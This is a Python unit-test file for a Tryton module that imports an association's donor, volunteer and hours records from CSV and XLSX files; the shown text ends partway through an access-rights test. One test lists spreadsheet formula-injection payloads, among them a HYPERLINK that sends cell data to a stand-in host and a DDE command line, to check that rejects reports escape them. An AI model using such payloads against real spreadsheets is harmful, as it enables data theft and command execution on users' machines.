import csv
import datetime as dt
import io
import os
import subprocess
import sys
import unittest
from decimal import Decimal

from trytond.i18n import gettext
from trytond.model.exceptions import AccessError
from trytond.pool import Pool
from trytond.tests import test_tryton
from trytond.tests.test_tryton import (
    DB_NAME, ModuleTestCase, activate_module, drop_db, with_transaction)
from trytond.transaction import Transaction

from ..cleaning import (
    CleanError, clean_amount, clean_bic, clean_date, clean_email,
    clean_iban, clean_name, clean_phone, clean_postal_code)
from ..reader import read

DONATION_HEADER = ['Réf don', 'N° donateur', 'Date', 'Montant', 'Mode']
HEADER = ['Réf', 'NOM', 'Prénom', 'Courriel', 'Tél', 'CP', 'Ville']
ROWS = [
    ['D1', 'MOREAU', 'élise', 'elise.moreau@example.org', '06 11 22 33 44',
        '69003', 'Lyon'],
    ['D2', 'Garnier', 'Tom', '', '', '1000', 'Bourg-en-Bresse'],
    ['D3', 'Lambert', 'Inès', 'ines@example', '', '75011', 'Paris'],
    ['D4', 'Petit', 'Hugo', 'hugo.petit@example.org', '0123', '75012',
        'Paris'],
    ]


def csv_bytes(rows, header=HEADER, delimiter=';', encoding='utf-8'):
    output = io.StringIO()
    writer = csv.writer(output, delimiter=delimiter)
    writer.writerow(header)
    writer.writerows(rows)
    return output.getvalue().encode(encoding)


def errors_of(content):
    "Rows of an error file: {line: [(column, status, reason)]}."
    reader = csv.reader(io.StringIO(content.decode('utf-8-sig')),
        delimiter=';')
    next(reader)
    result = {}
    for row in reader:
        result.setdefault(int(row[0]), []).append((row[1], row[2], row[3]))
    return result


def make_profile(name="Donateurs ancien CRM", entity='party'):
    Profile = Pool().get('connexion.import.profile')
    columns = [('Réf', 'key'), ('Nom', 'last_name'),
        ('Prenom', 'first_name'), ('courriel', 'email'), ('Tél', 'phone'),
        ('CP', 'postal_code'), ('Ville', 'city')]
    if entity == 'volunteer':
        columns += [('Statut', 'status'), ('Casier', 'criminal_record_date')]
    profile, = Profile.create([{
                'name': name, 'entity': entity, 'source': "Ancien CRM",
                'batch_size': 2,
                'columns': [('create', [{'column': c, 'target': t}
                            for c, t in columns])],
                }])
    return profile


class ConnexionImportTestCase(ModuleTestCase):
    "Test Connexion Import module"
    module = 'connexion_import'
    extras = ['connexion_donation']

    @classmethod
    def setUpClass(cls):
        """One test database for these tests and the scenario: the modules
        are sorted as proteus' activate_modules sorts them for its cache."""
        super(test_tryton._DBTestCase, cls).setUpClass()
        drop_db()
        activate_module(sorted([cls.module] + cls.extras), lang=cls.language)

    def test_cleaning(self):
        "Values are normalised the way the association writes them"
        self.assertEqual(clean_name('JEAN-PIERRE de LA fontaine'),
            'Jean-Pierre de la Fontaine')
        self.assertEqual(clean_phone('06 12 34 56 78'), '+33612345678')
        self.assertEqual(clean_phone(612345678), '+33612345678')
        self.assertEqual(clean_phone('0033 1 42 68 53 00'), '+33142685300')
        self.assertEqual(clean_postal_code(1000), '01000')
        self.assertEqual(clean_email(' Marie.Dupuis@Example.ORG '),
            'marie.dupuis@example.org')
        self.assertEqual(clean_iban('FR14 2004 1010 0505 0001 3M02 606'),
            'FR1420041010050500013M02606')
        self.assertEqual(clean_bic('bnpa fr pp'), 'BNPAFRPP')
        self.assertEqual(clean_date('03/02/2021'), dt.date(2021, 2, 3))
        self.assertEqual(clean_amount('1 234,50 €'), Decimal('1234.50'))
        self.assertEqual(clean_amount(12.5), Decimal('12.50'))
        # French numbers are checked and formatted from phonenumbers'
        # metadata without parsing: the same verdict and forms.
        import random

        import phonenumbers
        from phonenumbers import PhoneNumberFormat
        from ..cleaning import phone_international
        rnd = random.Random(8)
        for i in range(900):
            number = f'0{i // 100 + 1}{i % 100:02d}{rnd.randrange(10**6):06d}'
            parsed = phonenumbers.parse(number, 'FR')
            expected = None
            if phonenumbers.is_valid_number(parsed):
                expected = (
                    phonenumbers.format_number(
                        parsed, PhoneNumberFormat.E164),
                    phonenumbers.format_number(
                        parsed, PhoneNumberFormat.INTERNATIONAL))
            try:
                cleaned = clean_phone(number)
                result = (cleaned, phone_international(cleaned))
            except CleanError:
                result = None
            self.assertEqual(result, expected, number)
        for function, value in [
                (clean_phone, '0123'), (clean_email, 'a@b'),
                (clean_postal_code, '750'), (clean_postal_code, 'ABCDE'),
                (clean_iban, 'FR1420041010050500013M02607'),
                (clean_bic, 'XX'), (clean_date, '31/02/2021'),
                (clean_date, '01/01/2999'), (clean_amount, '12,345'),
                (clean_amount, '-5'), (clean_amount, 'douze')]:
            with self.subTest(value=value):
                with self.assertRaises(CleanError):
                    function(value)

    @with_transaction()
    def test_trytond_internals(self):
        "The private names of trytond used by the bulk path are as in 8.0"
        from .. import internals
        self.assertEqual(internals.check(), [])
        # A changed signature or a name gone is reported, not ignored.
        changed = [
            ('trytond.ir.sequence', 'Sequence._get_many', ['self', 'count']),
            ('trytond.model.modelsql', 'ModelSQL._ModelSQL__check_rule',
                ['ids', 'mode']),
            ]
        self.assertEqual(internals.check(changed), [
                "trytond.ir.sequence.Sequence._get_many('self', 'n') "
                "instead of ('self', 'count')",
                "trytond.model.modelsql.ModelSQL._ModelSQL__check_rule "
                "is gone"])
        self.assertEqual(internals.check(version='9.0.0'),
            ["trytond 9.0.0, not 8.0.x"])

    @with_transaction()
    def test_importers(self):
        "Each entity of a profile has its importer, with a cleaner per target"
        import ast

        pool = Pool()
        Run = pool.get('connexion.import.run')
        Profile = pool.get('connexion.import.profile')
        importers = Run.importers()
        self.assertEqual(set(importers),
            {e for e, _ in Profile.entity.selection})
        for entity, importer in importers.items():
            self.assertEqual(importer.entity, entity)
            for target, _ in importer.targets:
                self.assertTrue(importer.cleaners.get(target), target)
            for group in importer.required:
                self.assertLessEqual(set(group),
                    {t for t, _ in importer.targets})
        # The engine knows no importer: they import it, not the reverse.
        path = os.path.join(os.path.dirname(os.path.dirname(__file__)),
            'run.py')
        with open(path, encoding='utf-8') as fp:
            tree = ast.parse(fp.read())
        imported = {n.module for n in ast.walk(tree)
            if isinstance(n, ast.ImportFrom) and n.level}
        self.assertFalse(imported & {'party', 'hours', 'donation'})

    @with_transaction()
    def test_bulk_rules(self):
        "The bulk path strips, converts and refuses values as the ORM does"
        from trytond.model.modelstorage import (
            RequiredValidationError, SelectionValidationError)

        from ..bulk import create as bulk_create
        pool = Pool()
        Key = pool.get('connexion.import.key')
        Party = pool.get('party.party')
        Mechanism = pool.get('party.contact_mechanism')
        keys = [{'source': "Ancien CRM", 'entity': 'party', 'key': key,
                    'record': record} for key, record in [
                    ('K1', 1), (' K2 ', '2'), ('K3', None)]]
        cursor = Transaction().connection.cursor()
        cursor.execute('SAVEPOINT rules')
        # A missing required value in one row refuses the whole batch.
        with self.assertRaises(RequiredValidationError):
            bulk_create(Key, keys)
        cursor.execute('ROLLBACK TO SAVEPOINT rules')
        self.assertEqual(Key.search_count([]), 0)
        keys[2]['record'] = 3
        ids = bulk_create(Key, keys)
        # Char values are stripped and integers converted, as create()
        # stores them.
        self.assertEqual([(k.key, k.record) for k in Key.browse(ids)],
            [('K1', 1), ('K2', 2), ('K3', 3)])
        party, = Party.create([{'name': "Élise Moreau"}])
        cursor.execute('SAVEPOINT rules')
        with self.assertRaises(SelectionValidationError):
            bulk_create(Mechanism, [
                    {'party': party.id, 'type': 'email',
                        'value': 'elise@example.org'},
                    {'party': party.id, 'type': 'pigeon', 'value': 'x'}])
        cursor.execute('ROLLBACK TO SAVEPOINT rules')
        self.assertEqual(Mechanism.search_count([]), 0)

    def test_read_encodings_and_separators(self):
        "Windows and UTF-8 files, ';' ',' or tab separated, and XLSX"
        rows = [['D1', 'Hélène', 'Loïc', '', '', '', 'Besançon']]
        for encoding in ['utf-8', 'utf-8-sig', 'cp1252']:
            for delimiter in [';', ',', '\t']:
                with self.subTest(encoding=encoding, delimiter=delimiter):
                    table = read(csv_bytes(rows, delimiter=delimiter,
                            encoding=encoding), 'f.csv')
                    self.assertEqual(table.header, HEADER)
                    self.assertEqual(table.rows[0][1][1], 'Hélène')
                    self.assertEqual(table.separator, delimiter)
        import openpyxl
        workbook = openpyxl.Workbook()
        sheet = workbook.active
        sheet.append(HEADER)
        sheet.append(['D1', 'Hélène', 'Loïc', None, 612345678, 1000, 'Ain'])
        output = io.BytesIO()
        workbook.save(output)
        table = read(output.getvalue(), 'f.xlsx')
        self.assertEqual(table.header, HEADER)
        line, cells = table.rows[0]
        self.assertEqual((line, cells[1], cells[4]), (2, 'Hélène', 612345678))
        with self.assertRaises(CleanError):
            read(b'PK\x03\x04 not a workbook', 'f.xlsx')

    @with_transaction()
    def test_dry_run_writes_nothing(self):
        "A dry run reports every row and writes nothing"
        pool = Pool()
        Party = pool.get('party.party')
        Run = pool.get('connexion.import.run')
        Key = pool.get('connexion.import.key')
        profile = make_profile()
        parties = Party.search_count([])
        run, plan, report = Run.start(
            profile, 'donateurs.csv', csv_bytes(ROWS), dry_run=True)
        self.assertEqual(Party.search_count([]), parties)
        self.assertEqual(Key.search_count([]), 0)
        self.assertEqual(Run.search_count([]), 0)
        self.assertEqual([r.status for r in plan.rows],
            ['create', 'create', 'reject', 'reject'])
        self.assertIn('4', report)
        errors = errors_of(run.error_file(plan))
        self.assertEqual(sorted(errors), [4, 5])
        self.assertEqual(errors[4][0][0], 'Courriel')
        self.assertIn('ines@example', errors[4][0][2])
        self.assertEqual(errors[5][0][0], 'Tél')

    @with_transaction()
    def test_import_and_resume(self):
        "Importing, then importing the same file again, imports once"
        pool = Pool()
        Party = pool.get('party.party')
        Run = pool.get('connexion.import.run')
        profile = make_profile()
        parties = Party.search_count([])
        run, plan, _ = Run.start(profile, 'donateurs.csv', csv_bytes(ROWS))
        self.assertEqual((run.created, run.rejected), (2, 2))
        self.assertEqual(Party.search_count([]), parties + 2)
        elise, = Party.search([('name', '=', 'Élise Moreau')])
        self.assertTrue(elise.code)
        self.assertEqual(elise.email, 'elise.moreau@example.org')
        phone, = [m for m in elise.contact_mechanisms if m.type == 'phone']
        self.assertEqual(phone.value_compact, '+33611223344')
        tom, = Party.search([('name', '=', 'Tom Garnier')])
        self.assertEqual(tom.addresses[0].postal_code, '01000')

        # The corrected file is imported again: only the fixed rows come in.
        fixed = [list(r) for r in ROWS]
        fixed[2][3] = 'ines.lambert@example.org'
        fixed[3][4] = '01 23 45 67 89'
        run, plan, report = Run.start(profile, 'donateurs.csv',
            csv_bytes(fixed))
        self.assertEqual((run.created, run.skipped, run.rejected), (2, 2, 0))
        self.assertEqual(Party.search_count([]), parties + 4)
        run, plan, report = Run.start(profile, 'donateurs.csv',
            csv_bytes(fixed))
        self.assertEqual((run.created, run.skipped), (0, 4))
        self.assertEqual(Party.search_count([]), parties + 4)
        self.assertIn('| 4 |', report.replace(' 4 | 0', ' 4 | 0'))

    @with_transaction()
    def test_record_path(self):
        "The record-by-record path gives the same records as the bulk path"
        pool = Pool()
        Party = pool.get('party.party')
        Run = pool.get('connexion.import.run')
        profile = make_profile()
        run, plan, _ = Run.start(profile, 'donateurs.csv', csv_bytes(ROWS),
            method='record')
        self.assertEqual((run.created, run.rejected), (2, 2))
        elise, = Party.search([('name', '=', 'Élise Moreau')])
        self.assertTrue(elise.code)
        self.assertEqual(elise.email, 'elise.moreau@example.org')
        self.assertEqual(elise.addresses[0].city, 'Lyon')
        self.assertEqual(
            sorted((m.type, m.value_compact) for m in
                elise.contact_mechanisms),
            [('email', 'elise.moreau@example.org'),
                ('phone', '+33611223344')])

    @with_transaction()
    def test_bulk_same_records_as_orm(self):
        "The bulk path writes the records the ORM path writes, and only with the right to create them"
        from trytond.modules.company.tests import create_company, set_company
        pool = Pool()
        Party = pool.get('party.party')
        Mechanism = pool.get('party.contact_mechanism')
        Address = pool.get('party.address')
        Donation = pool.get('connexion.donation')
        Key = pool.get('connexion.import.key')
        Profile = pool.get('connexion.import.profile')
        Run = pool.get('connexion.import.run')
        Sequence = pool.get('ir.sequence')
        User = pool.get('res.user')
        ModelAccess = pool.get('ir.model.access')
        ModelData = pool.get('ir.model.data')
        transaction = Transaction()
        cursor = transaction.connection.cursor()
        company = create_company()
        donors = make_profile()
        gifts, = Profile.create([{
                    'name': "Dons", 'entity': 'donation',
                    'source': "Ancien CRM", 'batch_size': 2,
                    'columns': [('create', [
                                {'column': c, 'target': t} for c, t in zip(
                                    DONATION_HEADER, ['key', 'donor_key',
                                        'date', 'amount',
                                        'payment_method'])])],
                    }])
        rows = ROWS[:2] + [
            ['D5', "d'ARTOIS", 'anne-marie', 'Anne.Artois@Example.org',
                '06 45 12 34 56', '35000', 'Rennes']]
        donations = [['G1', 'D1', '15/03/2023', '50', 'check'],
            ['G2', 'D5', '02/01/2024', '1 200,50', 'transfer'],
            ['G3', 'D2', '05/05/2024', '20', ''],
            ['G4', 'D5', '06/05/2024', '10', 'cash']]
        sequence = Party._code_sequence()

        def table_rows(Model, where, party_keys, skip=()):
            "Stored values of records, their ids and parties by source key."
            table = Model.__table__()
            cursor.execute(*table.select(where=where(table)))
            names = [d[0] for d in cursor.description]
            result = []
            for values in cursor:
                values = dict(zip(names, values))
                # write_uid: the ORM writes the values it computes after
                # the insert; the bulk path inserts them.
                for name in ['id', 'create_date', 'write_date', 'write_uid',
                        'run', 'record', *skip]:
                    values.pop(name, None)
                if 'party' in values:
                    values['party'] = party_keys[values['party']]
                result.append(sorted(values.items(), key=str))
            return sorted(result, key=str)

        def import_(method):
            "Import the donors then their gifts; the records written."
            first = Sequence(sequence.id).number_next
            with set_company(company):
                run, _, _ = Run.start(donors, 'donateurs.csv',
                    csv_bytes(rows), method=method)
                self.assertEqual(run.created, 3)
                run, _, _ = Run.start(gifts, 'dons.csv', csv_bytes(
                        donations, header=DONATION_HEADER), method=method)
                self.assertEqual(run.created, 4)
            keys = Key.search([], order=[('entity', 'ASC'), ('line', 'ASC')])
            party_keys = {k.record: k.key for k in keys
                if k.entity == 'party'}
            parties = Party.browse(list(party_keys))
            # Codes follow the party sequence, in the order of the file.
            self.assertEqual(sorted(int(p.code) for p in parties),
                list(range(first, first + 3)))
            ids = list(party_keys)
            return {
                'parties': table_rows(Party, lambda t: t.id.in_(ids),
                    party_keys, ['code', 'code_alnum', 'code_digit']),
                'codes': [(p.code_alnum == p.code, p.code_digit == int(p.code))
                    for p in parties],
                'mechanisms': table_rows(Mechanism,
                    lambda t: t.party.in_(ids), party_keys),
                'addresses': table_rows(Address,
                    lambda t: t.party.in_(ids), party_keys),
                'donations': table_rows(Donation,
                    lambda t: t.party.in_(ids), party_keys),
                'keys': table_rows(Key, lambda t: t.id > 0, party_keys),
                }

        cursor.execute('SAVEPOINT bulk')
        bulk = import_('bulk')
        cursor.execute('ROLLBACK TO SAVEPOINT bulk')
        for cache in transaction.cache.values():
            cache.clear()
        orm = import_('record')
        self.maxDiff = None
        self.assertEqual(bulk, orm)
        self.assertEqual(len(bulk['mechanisms']), 4)
        self.assertIn(('value', '+33 6 45 12 34 56'),
            sum(bulk['mechanisms'], []))
        self.assertEqual(len(bulk['donations']), 4)
        self.assertEqual(len(bulk['keys']), 7)
        cursor.execute('ROLLBACK TO SAVEPOINT bulk')
        for cache in transaction.cache.values():
            cache.clear()

        # Without the right to create parties, the bulk path refuses and
        # writes nothing.
        collecte, = User.create([{'login': 'collecte', 'name': "Collecte",
                    'groups': [('add', [ModelData.get_id(
                                    'connexion_asso',
                                    'group_team_fundraising')])]}])
        ModelAccess.create([{'model': 'party.party', 'perm_read': True,
                    'perm_write': True, 'perm_create': False,
                    'perm_delete': False}])
        parties = Party.search_count([])
        with Transaction().set_user(collecte.id), \
                Transaction().set_context(_check_access=True):
            with self.assertRaises(AccessError) as refused:
                Run.start(Profile(donors.id), 'donateurs.csv',
                    csv_bytes(rows), method='bulk')
        self.assertIn(gettext('ir.msg_access_rule_error',
                **Party.__names__()), refused.exception.message)
        self.assertEqual(Party.search_count([]), parties)
        self.assertEqual(Key.search_count([]), 0)

    @with_transaction()
    def test_duplicates(self):
        "Existing contacts are found by e-mail, by name and postal code, or by a close name"
        pool = Pool()
        Party = pool.get('party.party')
        Run = pool.get('connexion.import.run')
        profile = make_profile()
        Party.create([{
                    'name': "Élise Moreau",
                    'contact_mechanisms': [('create', [{
                                    'type': 'email',
                                    'value': 'elise.moreau@example.org'}])],
                    }, {
                    'name': "Tom Garnier",
                    'addresses': [('create', [{'postal_code': '01000'}])],
                    }, {
                    'name': "Inès Lambert",
                    'addresses': [('create', [{'postal_code': '75011'}])],
                    }])
        parties = Party.search_count([])
        rows = [list(r) for r in ROWS]
        rows[2][1] = 'Lambret'  # typo of an existing contact
        rows[2][3] = ''
        rows[3][4] = ''
        rows.append(['D5', 'Petit', 'Hugo', 'hugo.petit@example.org', '',
                '75012', 'Paris'])
        rows.append(['D4', 'Autre', 'Ligne', '', '', '', ''])
        run, plan, _ = Run.start(profile, 'donateurs.csv', csv_bytes(rows))
        self.assertEqual([r.status for r in plan.rows],
            ['match', 'match', 'reject', 'create', 'reject', 'reject'])
        self.assertEqual(Party.search_count([]), parties + 1)
        errors = errors_of(run.error_file(plan))
        self.assertEqual(errors[2][0][1],
            gettext('connexion_import.msg_status_matched'))
        self.assertIn('Inès Lambert', errors[4][0][2])
        self.assertIn('5', errors[6][0][2])  # duplicate of line 5 (e-mail)
        self.assertIn('5', errors[7][0][2])  # same key as line 5
        # Linked rows keep their source key: importing again skips them.
        run, plan, _ = Run.start(profile, 'donateurs.csv', csv_bytes(rows))
        self.assertEqual(run.skipped, 3)
        self.assertEqual(run.created, 0)

    @with_transaction()
    def test_malformed_files(self):
        "Unreadable files or missing columns import nothing"
        pool = Pool()
        Party = pool.get('party.party')
        Run = pool.get('connexion.import.run')
        profile = make_profile()
        parties = Party.search_count([])
        bad_header = csv_bytes(ROWS, header=['Ref', 'Nam', 'Firstname',
                'Mail', 'Tel', 'Zip', 'Town'])
        for data in [b'', bad_header, b'\x00\x01\x02binary\xff\xfe\x00']:
            with self.subTest(data=data[:10]):
                with self.assertRaises(CleanError):
                    Run.start(profile, 'f.csv', data)
        self.assertEqual(Party.search_count([]), parties)
        self.assertEqual(Run.search_count([]), 0)
        # A row with a stray separator is reported, the others imported.
        data = csv_bytes(ROWS[:1]) + b'D9;Roux;Paul;;;75001;Paris;extra\n'
        run, plan, _ = Run.start(profile, 'f.csv', data)
        self.assertEqual((run.created, run.rejected), (1, 1))
        self.assertIn('8', errors_of(run.error_file(plan))[3][0][2])

    @with_transaction()
    def test_rejects_neutralise_formulas(self):
        "Rejects report: cells a spreadsheet would run as formulas are text"
        import openpyxl

        from connexion_asso.spreadsheet import safe_cell
        pool = Pool()
        Run = pool.get('connexion.import.run')
        profile = make_profile()
        starts = ('=', '+', '-', '@', '\t', '\r')
        attacks = ['=HYPERLINK("http://evil.example/?"&A1;"Cliquez")',
            '+1+1', '-1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1',
            "=cmd|' /C calc'!A0"]
        for attack in attacks:
            with self.subTest(attack=attack):
                self.assertEqual(safe_cell(attack), "'" + attack)
        self.assertEqual(safe_cell('  =1+1'), "'  =1+1")
        self.assertEqual(safe_cell('Lyon'), 'Lyon')
        self.assertEqual(safe_cell(Decimal('-12.50')), '-12,50')
        self.assertEqual(safe_cell(-3), '-3')

        header = HEADER + ['=1+2']
        rows = [[f'X{i}', attack, attack, 'pas-un-courriel', '', '75001',
                attack, attack] for i, attack in enumerate(attacks)]
        # A row with a stray separator is copied whole too.
        rows.append(['X9', 'Roux', '-2+3', '', '', '75001', 'Paris', '@x',
                '=9'])
        run, plan, _ = Run.start(profile, 'f.csv',
            csv_bytes(rows, header=header), dry_run=True)
        self.assertEqual(plan.count('reject'), len(rows))
        content = run.error_file(plan).decode('utf-8-sig')
        cells = [c for row in csv.reader(io.StringIO(content, newline=''),
                delimiter=';') for c in row]
        self.assertEqual([c for c in cells if c.startswith(starts)], [])
        for cell in ["'=1+2", "'-1+1", "'+1+1", "'@SUM(1+1)", "'=9",
                "'-2+3", "'=cmd|' /C calc'!A0", "'=1+1",
                "'" + attacks[0]]:
            self.assertIn(cell, cells)

        # Numbers of a workbook stay numbers; text that starts like a
        # formula does not.
        workbook = openpyxl.Workbook()
        workbook.active.append(HEADER)
        workbook.active.append(['X1', 'Roux', 'Paul', 'pas-un-courriel',
                -612345678, '-5+1', -12.5])
        output = io.BytesIO()
        workbook.save(output)
        run, plan, _ = Run.start(profile, 'f.xlsx', output.getvalue(),
            dry_run=True)
        rows = list(csv.reader(io.StringIO(
                    run.error_file(plan).decode('utf-8-sig')),
                delimiter=';'))
        self.assertEqual(rows[1][4:], ['X1', 'Roux', 'Paul',
                'pas-un-courriel', '-612345678', "'-5+1", '-12,5'])

    @with_transaction()
    def test_unreadable_files_refused(self):
        "Broken, binary or oversized files: a French message, nothing saved"
        import random
        import zipfile

        import openpyxl

        from ..exceptions import ImportFileError
        pool = Pool()
        Party = pool.get('party.party')
        Run = pool.get('connexion.import.run')
        Key = pool.get('connexion.import.key')
        Wizard = pool.get('connexion.import.wizard', type='wizard')
        profile = make_profile()
        parties = Party.search_count([])

        def workbook(rows):
            book = openpyxl.Workbook()
            for row in rows:
                book.active.append(row)
            output = io.BytesIO()
            book.save(output)
            return output.getvalue()

        def broken(data, member):
            "The workbook with one XML part cut in half: a valid zip."
            source = zipfile.ZipFile(io.BytesIO(data))
            output = io.BytesIO()
            with zipfile.ZipFile(output, 'w') as target:
                for info in source.infolist():
                    content = source.read(info.filename)
                    if info.filename == member:
                        content = content[:len(content) // 2]
                    target.writestr(info, content)
            return output.getvalue()

        book = workbook([HEADER] + ROWS)
        many = [[f'N{i}', f'Nom{i}', 'Camille', '', '', '75001', 'Paris']
            for i in range(300)]
        nul = [list(r) for r in many]
        nul[250][1] = 'Mo\x00reau'
        unreadable = 'connexion_import.msg_file_unreadable'
        cases = [
            ('long cell', 'f.csv', csv_bytes(
                    ROWS[:1] + [['D9', 'x' * 200_000, 'a', '', '', '', '']]),
                'connexion_import.msg_file_cell_too_long'),
            ('open quote', 'f.csv', csv_bytes(ROWS) + b'D9;"Roux;Paul\n'
                + b'D10;Roux;Paul;;;;\n' * 20_000,
                'connexion_import.msg_file_cell_too_long'),
            ('broken sheet', 'f.xlsx',
                broken(book, 'xl/worksheets/sheet1.xml'), unreadable),
            ('broken workbook', 'f.xlsx', broken(book, 'xl/workbook.xml'),
                unreadable),
            ('not a workbook', 'f.xlsx', b'PK\x03\x04 not a workbook',
                unreadable),
            ('Excel 97', 'f.xls', bytes.fromhex('d0cf11e0a1b11ae1')
                + bytes(600), 'connexion_import.msg_file_xls'),
            ('binary', 'f.csv', random.Random(13).randbytes(5000),
                unreadable),
            ('binary without NUL', 'f.csv', bytes(
                    b for b in random.Random(14).randbytes(6000) if b),
                unreadable),
            ('NUL in a cell', 'f.csv', csv_bytes(nul),
                'connexion_import.msg_file_nul'),
            ('NUL at the start', 'f.csv', csv_bytes(
                    [['D1', 'Mo\x00reau', 'a', '', '', '', '']]),
                'connexion_import.msg_file_nul'),
            ('empty', 'f.csv', b'', 'connexion_import.msg_file_empty'),
            ('only a BOM', 'f.csv', b'\xef\xbb\xbf \r\n',
                'connexion_import.msg_file_empty'),
            ('empty workbook', 'f.xlsx', workbook([]),
                'connexion_import.msg_file_empty'),
            ('only the header', 'f.csv', csv_bytes([]),
                'connexion_import.msg_file_no_rows'),
            ('workbook with only the header', 'f.xlsx', workbook([HEADER]),
                'connexion_import.msg_file_no_rows'),
            ]
        for name, filename, data, message in cases:
            with self.subTest(name):
                with self.assertRaises(CleanError) as context:
                    Run.start(profile, filename, data)
                self.assertEqual(context.exception.message, message)
                # The back-office wizard shows it as a user error.
                session_id, _, _ = Wizard.create()
                wizard = Wizard(session_id)
                wizard.start.profile = profile
                wizard.start.file = data
                wizard.start.filename = filename
                with self.assertRaises(ImportFileError) as context:
                    wizard.transition_import_()
                self.assertTrue(context.exception.message)
                self.assertNotIn('connexion_import.',
                    context.exception.message)
                Wizard.delete(session_id)
        self.assertEqual(Party.search_count([]), parties)
        self.assertEqual(Run.search_count([]), 0)
        self.assertEqual(Key.search_count([]), 0)

    @with_transaction()
    def test_readable_files_read(self):
        "A CSV whose header starts with PK, Latin-1 or UTF-16 files are read"
        pool = Pool()
        Run = pool.get('connexion.import.run')
        profile = make_profile()
        rows = [['D1', 'Hélène', 'Loïc', '', '', '25000', 'Besançon']]
        for name, data in [
                ('PK column', csv_bytes(rows, header=['PK'] + HEADER[1:])),
                ('PK column, comma separated', csv_bytes(rows,
                        header=['PK'] + HEADER[1:], delimiter=',')),
                ('Latin-1', csv_bytes(rows, encoding='latin-1')),
                ('UTF-16', csv_bytes(rows, delimiter='\t',
                        encoding='utf-16')),
                ('UTF-16 without BOM', csv_bytes(rows, delimiter='\t',
                        encoding='utf-16-le')),
                ]:
            with self.subTest(name):
                run, plan, _ = Run.start(profile, 'f.csv', data,
                    dry_run=True)
                row, = plan.rows
                self.assertEqual(row.status, 'create', row.errors)
                self.assertEqual(row.values['name'], 'Loïc Hélène')
                self.assertEqual(row.values['city'], 'Besançon')

    @with_transaction()
    def test_transcode_and_volunteers(self):
        "Old status codes are transcoded; invalid dates are reported"
        pool = Pool()
        Run = pool.get('connexion.import.run')
        Transcode = pool.get('connexion.import.transcode')
        Volunteer = pool.get('connexion.volunteer')
        profile = make_profile("Bénévoles", 'volunteer')
        Transcode.create([{'profile': profile.id, 'target': 'status',
                    'source_value': 'ACT', 'value': 'active'}])
        header = HEADER + ['Statut', 'Casier']
        rows = [ROWS[0] + ['act', '12/03/2024'],
            ROWS[1] + ['ZZZ', ''],
            ['D7', 'Roux', 'Paul', '', '', '', '', 'ACT', '31/13/2024']]
        run, plan, _ = Run.start(profile, 'benevoles.xlsx'.replace(
                'xlsx', 'csv'), csv_bytes(rows, header=header))
        volunteer, = Volunteer.search([])
        self.assertEqual(volunteer.party.name, 'Élise Moreau')
        self.assertEqual(volunteer.status, 'active')
        self.assertEqual(volunteer.criminal_record_date, dt.date(2024, 3, 12))
        errors = errors_of(run.error_file(plan))
        self.assertEqual(errors[3][0][0], 'Statut')
        self.assertEqual(errors[4][0][0], 'Casier')

    @with_transaction()
    def test_volunteer_hours(self):
        "Hours of the old spreadsheet join their volunteer and mission; a batch the model refuses is saved row by row"
        pool = Pool()
        Run = pool.get('connexion.import.run')
        Profile = pool.get('connexion.import.profile')
        Team = pool.get('connexion.team')
        Mission = pool.get('connexion.mission')
        Hours = pool.get('connexion.volunteer.hours')
        team, = Team.create([{'name': "Hôpitaux"}])
        visits, _, _ = Mission.create([{'name': "Visites à l'hôpital",
                    'team': team.id}, {'name': "Noël", 'team': team.id},
                {'name': "Noël", 'team': team.id}])
        volunteers = make_profile("Bénévoles", 'volunteer')
        run, _, _ = Run.start(volunteers, 'benevoles.csv',
            csv_bytes(ROWS[:2]))
        self.assertEqual(run.created, 2)
        profile, = Profile.create([{
                    'name': "Heures", 'entity': 'hours',
                    'source': "Ancien CRM", 'batch_size': 3,
                    'columns': [('create', [
                                {'column': c, 'target': t} for c, t in [
                                    ('Bénévole', 'volunteer_key'),
                                    ('Mission', 'mission'), ('Date', 'date'),
                                    ('Heures', 'hours'), ('Km', 'distance'),
                                    ('Objet', 'notes')]])],
                    'transcodes': [('create', [{'target': 'mission',
                                    'source_value': 'VISITE',
                                    'value': "Visites à l'hôpital"}])],
                    }])
        header = ['Bénévole', 'Mission', 'Date', 'Heures', 'Km', 'Objet']
        rows = [
            ['D1', 'visite', '12/03/2024', '3h30', '12', 'Clowns'],
            ['D2', 'VISITE', '13/03/2024', '30', '', ''],  # > 24 h
            ['D1', 'visite', '14/03/2024', '2,5', '', ''],
            ['D1', 'Noël', '20/12/2023', '4', '', ''],  # two missions
            ['D9', 'visite', '14/03/2024', '2', '', ''],  # unknown key
            ['D2', 'Cuisine', '14/03/2024', '2', '', ''],  # unknown mission
            ['D2', 'visite', '15/03/2024', '1', '-3', ''],
            ['D2', 'visite', '16/12/2023', '1:15', '', ''],
            ]
        data = csv_bytes(rows, header=header)
        run, plan, report = Run.start(profile, 'heures.csv', data)
        self.assertEqual((run.created, run.rejected), (3, 5))
        errors = errors_of(run.error_file(plan))
        self.assertEqual({line: e[0][0] for line, e in errors.items()},
            {3: 'Heures', 5: 'Mission', 6: 'Bénévole', 7: 'Mission',
                8: 'Km'})
        lines = Hours.search([], order=[('date', 'ASC')])
        self.assertEqual([(l.volunteer.party.name, l.mission, l.hours,
                    l.distance, l.state) for l in lines], [
                ('Tom Garnier', visits, Decimal('1.25'), None, 'draft'),
                ('Élise Moreau', visits, Decimal('3.50'), 12, 'draft'),
                ('Élise Moreau', visits, Decimal('2.50'), None, 'draft')])
        report = report.splitlines()
        self.assertIn('2023 | 1 | 1.25 | 1 | 1.25', report)
        self.assertIn('2024 | 2 | 6.00 | 2 | 6.00', report)
        # The refused line is fixed in the file: only it comes in.
        rows[1][3] = '3'
        run, plan, _ = Run.start(profile, 'heures.csv',
            csv_bytes(rows, header=header))
        self.assertEqual((run.created, run.skipped), (1, 3))
        self.assertEqual(Hours.search_count([]), 4)

    @with_transaction()
    def test_access(self):
        "Fundraising imports; the dreams team and volunteers cannot"
        pool = Pool()
        User = pool.get('res.user')
        ModelData = pool.get('ir.model.data')
        Profile = pool.get('connexion.import.profile')
        Run = pool.get('connexion.import.run')
        profile = make_profile()

        def user(login, group):
            user, = User.create([{'login': login, 'name': login,
                        'groups': [('add', [ModelData.get_id(
                                        'connexion_asso', group)])]}])
            return user
        collecte = user('collecte', 'group_team_fundraising')
        collecte2 = user('collecte2', 'group_team_fundraising')
        reves = user('reves', 'group_team_dreams')
        volunteer = user('benevole', 'group_volunteer')
        with Transaction().set_user(collecte.id), \
                Transaction().set_context(_check_access=True):
            run, _, _ = Run.start(Profile(profile.id), 'f.csv',
                csv_bytes(ROWS[:1]))
